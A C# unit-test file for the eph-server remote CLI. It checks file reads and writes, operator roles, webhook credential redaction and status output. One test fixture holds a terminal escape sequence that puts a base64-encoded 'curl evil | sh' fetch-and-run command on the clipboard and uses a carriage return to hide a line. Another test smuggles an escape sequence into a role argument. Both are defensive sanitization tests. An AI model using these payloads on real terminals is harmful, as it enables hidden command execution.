using System.CommandLine;
using System.Text.Json;
using EtPhoneHome.Core.Registry;
using EtPhoneHome.Core.Remote;
using EtPhoneHome.Server;
using EtPhoneHome.Tests.Unit.Health;
using EtPhoneHome.Tests.Unit.Hub;
using EtPhoneHome.Tests.Unit.Registry;
using Xunit;

namespace EtPhoneHome.Tests.Unit.Verbs;

/// <summary>
/// eph-server read, write, ls, limits, webhooks, operators and status with --server: through a real operator service
/// over a real registry and agent, with the output and exit codes they have on the server host.
/// </summary>
public sealed class RemoteCliRegistryTests : IAsyncLifetime
{
    private readonly RemoteRegistryHarness _hub = new();
    private readonly StringWriter _out = new();
    private readonly StringWriter _err = new();
    private int _localServices;

    public Task InitializeAsync() => _hub.StartAsync();

    public Task DisposeAsync() => _hub.DisposeAsync().AsTask();

    private Task<int> RunAsync(params string[] args)
    {
        _out.GetStringBuilder().Clear();
        _err.GetStringBuilder().Clear();
        var root = (EphRootCommand)Program.BuildRoot(_ =>
        {
            Interlocked.Increment(ref _localServices);
            throw new InvalidOperationException("a remote verb opened local services");
        });
        root.Prompt = OperatorPrompt.None;
        root.Environment = name => name == ConnectionProfile.DirectoryVariable ? Path.Combine(_hub.Data.Root, "profile") : null;
        root.RemoteConnector = (request, _, _, _) => Task.FromResult(_hub.Server(request.Surface));
        return root.Parse(["--server", "ops@hub", .. args]).InvokeAsync(new InvocationConfiguration { Output = _out, Error = _err });
    }

    private List<JsonElement> JsonLines() =>
        [.. _out.ToString().Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(l => JsonDocument.Parse(l).RootElement)];

    [Fact]
    public async Task WriteReadAndLs_GoThroughTheServer_WithTheLocalOutput()
    {
        var path = Path.Combine(_hub.RemoteDir, "app.ini");
        Assert.Equal(0, await RunAsync("write", path, "--client", "web-01", "--value", "a = 1\n"));
        Assert.Contains("=== client 'web-01'", _out.ToString(), StringComparison.Ordinal);
        Assert.Equal("a = 1\n", File.ReadAllText(path));

        Assert.Equal(0, await RunAsync("read", path, "--client", "web-01", "--json"));
        var read = Assert.Single(JsonLines());
        Assert.Equal("a = 1\n", read.GetProperty("content").GetString());
        Assert.Equal("succeeded", read.GetProperty("status").GetString());

        Assert.Equal(0, await RunAsync("ls", _hub.RemoteDir, "--all"));
        Assert.Contains("app.ini", _out.ToString(), StringComparison.Ordinal);

        Assert.Equal(1, await RunAsync("read", Path.Combine(_hub.RemoteDir, "nope"), "--client", "web-01"));
        Assert.Equal(2, await RunAsync("read", path, "--client", "nosuch"));
        Assert.Equal(0, _localServices);
    }

    [Fact]
    public async Task Read_ShowsAHostileFileAsText_AndJsonKeepsItsExactContent()
    {
        // A file on a compromised client holds escape sequences (clipboard write, title change, a CR that hides the line).
        var path = Path.Combine(_hub.RemoteDir, "motd");
        const string hostile = "welcome\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007\r\nsafe\rforged\n";
        File.WriteAllText(path, hostile);

        Assert.Equal(0, await RunAsync("read", path, "--client", "web-01"));
        var shown = _out.ToString();
        Assert.DoesNotContain('\u001b', shown);
        Assert.DoesNotContain('\u0007', shown);
        Assert.Contains(@"welcome\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07" + "\r\n" + @"safe\x0dforged" + "\n", shown, StringComparison.Ordinal);

        _out.GetStringBuilder().Clear();
        Assert.Equal(0, await RunAsync("read", path, "--client", "web-01", "--json"));
        Assert.Equal(hostile, Assert.Single(JsonLines()).GetProperty("content").GetString());
    }

    [Fact]
    public async Task AReadersWrite_IsRefused_NamingTheRole_AndNothingIsWritten()
    {
        _hub.Role = OperatorRole.Reader;
        var path = Path.Combine(_hub.RemoteDir, "reader.txt");
        Assert.Equal(RemoteCli.Forbidden, await RunAsync("write", path, "--client", "web-01", "--value", "x"));
        Assert.Contains("operator role", _err.ToString(), StringComparison.Ordinal);
        Assert.False(File.Exists(path));
    }

    [Fact]
    public async Task Limits_ShowTheServersCounters_AnUnknownNameExitsTwo()
    {
        Assert.Equal(0, await RunAsync("limits", "web-01", "--json"));
        Assert.Equal(_hub.Client.Uuid, Assert.Single(JsonLines()).GetProperty("uuid").GetString());
        Assert.Equal(2, await RunAsync("limits", "nosuch"));
        Assert.Contains("no client named 'nosuch'", _err.ToString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Webhooks_ListWithoutCredentials_AndResend_TestStaysOnTheServerHost()
    {
        var delivery = _hub.Registry.RecordEvent(WebhookEvents.ClientConnected, _hub.Client.Uuid);
        _hub.Registry.RecordWebhookAttempt(new WebhookAttemptResult { EventId = delivery.Id, Url = "https://hook:s3cret@hooks.example/in?token=t0ken", StatusCode = 500, Error = "boom", DurationMs = 1, Delivered = false });

        Assert.Equal(0, await RunAsync("webhooks"));
        Assert.Contains("client.connected", _out.ToString(), StringComparison.Ordinal);
        Assert.Contains("web-01", _out.ToString(), StringComparison.Ordinal);
        Assert.Equal(0, await RunAsync("webhooks", "--json", "--client", "web-01"));
        Assert.DoesNotContain("s3cret", _out.ToString(), StringComparison.Ordinal);
        Assert.DoesNotContain("t0ken", _out.ToString(), StringComparison.Ordinal);

        Assert.Equal(0, await RunAsync("webhooks", "resend", delivery.DeliveryId));
        Assert.Contains("Queued delivery", _out.ToString(), StringComparison.Ordinal);
        Assert.Equal(1, await RunAsync("webhooks", "resend", "999999"));
        Assert.Equal(2, await RunAsync("webhooks", "test"));
        Assert.Contains("runs on the server host", _err.ToString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task OperatorsAdd_TakesThePublicKeyFile_BesideTheSshKeyFile_AndAWrongRoleIsTheSameUsageErrorAsLocally()
    {
        _hub.Role = OperatorRole.Admin;
        Directory.CreateDirectory(_hub.Data.Root);
        var pub = Path.Combine(_hub.Data.Root, "carol.pub");
        File.WriteAllText(pub, RemoteRegistryHarness.OperatorKeyLine + "\n");

        // --key-file is the ssh private key of the connection; the operator's public key has its own option.
        Assert.Equal(0, await RunAsync("--key-file", "/nonexistent/id_ed25519", "operators", "add", "--name", "carol", "--public-key-file", pub, "--role", "reader"));
        Assert.Contains("Added operator 'carol' (reader)", _out.ToString(), StringComparison.Ordinal);

        foreach (var args in new[] { new[] { "operators", "add", "--name", "dave", "--public-key-file", pub, "--role", "super\u001b[2Juser" }, ["operators", "set-role", "carol", "root"] })
        {
            Assert.Equal(1, await RunAsync(args));
            Assert.Contains("is not an operator role; use one of: reader, operator, admin", _err.ToString(), StringComparison.Ordinal);
            Assert.DoesNotContain("\u001b", _err.ToString(), StringComparison.Ordinal);
        }

        Assert.Null(_hub.Registry.GetOperator("dave"));
        Assert.Equal(OperatorRole.Reader, _hub.Registry.GetOperator("carol")!.Role);
    }

    [Fact]
    public async Task Operators_AreAdminOnly_AndAnAdminManagesThem()
    {
        Assert.Equal(RemoteCli.Forbidden, await RunAsync("operators", "list"));
        Assert.Contains("admin", _err.ToString(), StringComparison.Ordinal);

        _hub.Role = OperatorRole.Admin;
        Assert.Equal(0, await RunAsync("operators", "add", "--name", "carol", "--key", RemoteRegistryHarness.OperatorKeyLine, "--role", "reader"));
        Assert.Contains("Added operator 'carol' (reader)", _out.ToString(), StringComparison.Ordinal);
        Assert.Equal(0, await RunAsync("operators", "set-role", "carol", "operator"));
        Assert.Contains("'carol' is now operator", _out.ToString(), StringComparison.Ordinal);
        Assert.Equal(0, await RunAsync("operators", "list", "--json"));
        Assert.Equal("operator", Assert.Single(JsonLines()).GetProperty("role").GetString());
        Assert.Equal(2, await RunAsync("operators", "remove", "carol"));
        Assert.Contains("--yes", _err.ToString(), StringComparison.Ordinal);
        Assert.Equal(0, await RunAsync("operators", "remove", "carol", "--yes"));
        Assert.Null(_hub.Registry.GetOperator("carol"));
        Assert.Equal(1, await RunAsync("operators", "set-role", "carol", "admin"));
        Assert.Contains("no active operator", _err.ToString(), StringComparison.Ordinal);

        var recorded = _hub.Registry.QueryHistory(new HistoryQuery { Operations = ["add_operator", "set_operator_role", "remove_operator"] });
        Assert.Equal(3, recorded.Count);
        Assert.All(recorded, e => Assert.Equal(("cli+ssh", "admin", "10.0.0.5"), (e.Surface, e.Role, e.Source)));
    }

    [Fact]
    public async Task Status_SendsItsThresholds()
    {
        _hub.Metrics.Answers["web-01"] = ScriptedMetrics.Summary(cpu: 10, memory: 50, disk: 20);
        Assert.Equal(0, await RunAsync("status", "--json"));
        Assert.Equal(0, Assert.Single(JsonLines()).GetProperty("over_memory").GetArrayLength());
        Assert.Equal(0, await RunAsync("status", "--json", "--memory-threshold", "40"));
        Assert.Equal(1, Assert.Single(JsonLines()).GetProperty("over_memory").GetArrayLength());
    }
}
